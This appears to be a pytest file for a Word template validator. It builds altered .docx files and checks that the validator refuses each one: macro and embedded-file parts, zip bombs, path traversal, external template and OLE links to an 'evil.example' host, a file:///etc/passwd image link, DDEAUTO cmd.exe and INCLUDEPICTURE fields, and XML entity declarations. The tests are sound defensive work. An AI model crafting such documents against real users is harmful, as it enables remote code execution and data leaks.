import io
import zipfile
from pathlib import Path

import pytest

from analysis.exports import export
from analysis.exports.to_docx import HOUSE
from analysis.exports.word_template import LARGEST, TemplateFault, check, offered, office_template
from tests.analysis.exports.briefings import briefing

RELS = "word/_rels/document.xml.rels"
OUTSIDE = '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}" TargetMode="External"/></Relationships>'


def changed(parts: dict[str, tuple[str, str] | bytes]) -> bytes:
    """The house template with words replaced in a part, or with more parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(HOUSE) as held, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name in held.namelist():
            body = held.read(name)
            if isinstance(change := parts.get(name), tuple):
                assert change[0].encode() in body, name
                body = body.replace(change[0].encode(), change[1].encode())
            packed.writestr(name, body)
        for name, body in parts.items():
            if isinstance(body, bytes):
                packed.writestr(name, body)
    return out.getvalue()


def outside(kind: str, target: str) -> dict[str, tuple[str, str] | bytes]:
    return {RELS: ("</Relationships>", OUTSIDE.format(kind, target))}


def field(words: str) -> dict[str, tuple[str, str] | bytes]:
    run = f"<w:body><w:p><w:r><w:instrText>{words[:4]}</w:instrText></w:r><w:r><w:instrText>{words[4:]}</w:instrText></w:r></w:p>"
    return {"word/document.xml": ("<w:body>", run)}


def test_the_house_template_and_one_with_a_link_are_fit() -> None:
    check(HOUSE.read_bytes(), "house")
    linked = changed(outside("hyperlink", "https://office.example/"))
    check(linked, "linked")
    assert export(briefing(), "docx", template=linked).startswith(b"PK")


@pytest.mark.parametrize(
    ("body", "words"),
    [
        (b"", "is no Word document"),
        (b"PK\x03\x04 broken", "is no Word document"),
        (b" " * (LARGEST + 1), "is larger than 5 MB"),
        (changed({"word/vbaProject.bin": b"x"}), "holds word/vbaProject.bin, a macro or an embedded file"),
        (changed({"word/embeddings/a.bin": b"x"}), "a macro or an embedded file"),
        (changed({"word/media/big.png": b"\0" * 30_000_000}), "is packed more tightly"),
        (changed({f"word/{at}.bin": b"x" for at in range(400)}), "more than 400 parts"),
        (changed({"../x.bin": b"x"}), "a macro or an embedded file"),
        (changed(outside("attachedTemplate", "https://evil.example/t.dotm")), "loads https://evil.example/t.dotm from outside"),
        (changed(outside("image", "file:///etc/passwd")), "from outside"),
        (changed(outside("oleObject", "https://evil.example/")), "from outside"),
        (changed(outside("hyperlink", "file://evil.example/share")), "from outside"),
        (changed(outside("frame", "https://evil.example/")), "from outside"),
        (changed(field('INCLUDEPICTURE "https://evil.example/a.png"')), "has a field INCLUDEPICTURE"),
        (changed(field("DDEAUTO c:\\cmd.exe")), "has a field DDEAUTO"),
        (changed({"word/document.xml": ("<w:body>", '<w:body><w:altChunk xmlns:r="x" r:id="a"/>')}), "takes in another file"),
        (changed({"word/extra.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), "declares a document type"),
        (changed({"word/extra.xml": b"<a>"}), "is broken"),
        (changed({"[Content_Types].xml": ("wordprocessingml.document.main", "wordprocessingml.template.main")}), "perhaps one with macros"),
    ],
)  # fmt: skip
def test_what_reaches_out_or_is_no_template_is_refused_in_a_sentence(body: bytes, words: str) -> None:
    with pytest.raises(TemplateFault) as fault:
        check(body, "desk")
    assert words in str(fault.value)
    assert str(fault.value).startswith("The template desk ")


def test_templates_are_found_by_name_in_their_folder_alone(tmp_path: Path) -> None:
    folder = tmp_path / "templates"
    assert offered(folder) == {}
    folder.mkdir()
    (folder / "desk.docx").write_bytes(HOUSE.read_bytes())
    (folder / "~$desk.docx").write_bytes(b"")
    (folder / "notes.txt").write_bytes(b"")
    (tmp_path / "secret.docx").write_bytes(HOUSE.read_bytes())
    assert list(offered(folder)) == ["desk"]
    assert office_template(folder, "desk") == HOUSE.read_bytes()
    for name in ("../secret", "desk.docx", "", "x" * 500):
        with pytest.raises(TemplateFault, match=r"There is no template .* There are desk\."):
            office_template(folder, name)


def test_a_template_that_cannot_be_used_says_so_by_its_name(tmp_path: Path) -> None:
    (tmp_path / "old.docx").write_bytes(b"x" * (LARGEST + 1))
    with pytest.raises(TemplateFault, match=r"^The template old is larger than 5 MB"):
        office_template(tmp_path, "old")
